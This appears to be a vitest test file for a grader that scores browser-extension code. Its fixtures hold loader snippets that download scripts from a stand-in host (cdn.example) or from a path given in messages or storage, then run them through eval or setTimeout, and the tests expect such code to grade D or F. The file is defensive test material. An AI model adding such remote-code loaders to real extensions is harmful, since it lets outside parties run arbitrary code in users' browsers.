import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/** A library as compilers make them: it can read and run a file, for who asks it to. */
const library = (use: string): string =>
  `var Module = {}; (function () { function run(text) { eval.call(null, text); } Module.read = function (url) { var xhr = new XMLHttpRequest(); xhr.open('GET', url, false); xhr.send(null); return xhr.responseText; }; Module.load = function (file) { run(Module.read(file)); }; Module.hash = function (text) { return text.length; }; })(); ${use}`;

it('a part of a library that runs what it downloads weighs little where nothing calls it', async () => {
  expect(await graded({ content: library("console.log(Module.hash('x'));") })).toMatch(/^A/);
});

it.each([
  "Module.load('https://cdn.example/a.js');",
  'chrome.runtime.onMessage.addListener((m) => Module.load(m.file));',
  "chrome.storage.local.get('from', ({ from }) => Module.load(from));",
])('and in full where something does: %s', async (use) => {
  expect(await graded({ content: library(use) })).toMatch(/^[DF]$/);
});

/** What compilers put around WebAssembly: the module alone calls its imports, by numbers of what lies in a table. */
const glue = (use: string): string =>
  `const held = []; const get = (i) => held[i]; const add = (one) => held.push(one) - 1; const own = {}; own.ask = async function (a) { return add(await (await fetch(get(a))).text()); }; own.later = function (a, ms) { return add(setTimeout(get(a), ms)); }; ${use}`;

it('what a module of the package asks for by a number weighs little', async () => {
  const use =
    "WebAssembly.instantiateStreaming(fetch(chrome.runtime.getURL('own.wasm')), { own }).then(({ instance }) => instance.exports.start());";
  expect(await graded({ background: glue(use) })).toMatch(/^A/);
});

it.each([
  "chrome.alarms.onAlarm.addListener(async () => own.later(await own.ask(add('https://cdn.example/a.js')), 1));",
  "fetch('https://cdn.example/a.js').then((r) => r.text()).then((text) => setTimeout(get(add(text)), 1));",
])('and in full where a script asks: %s', async (use) => {
  expect(await graded({ background: glue(use) })).toMatch(/^[DF]$/);
});
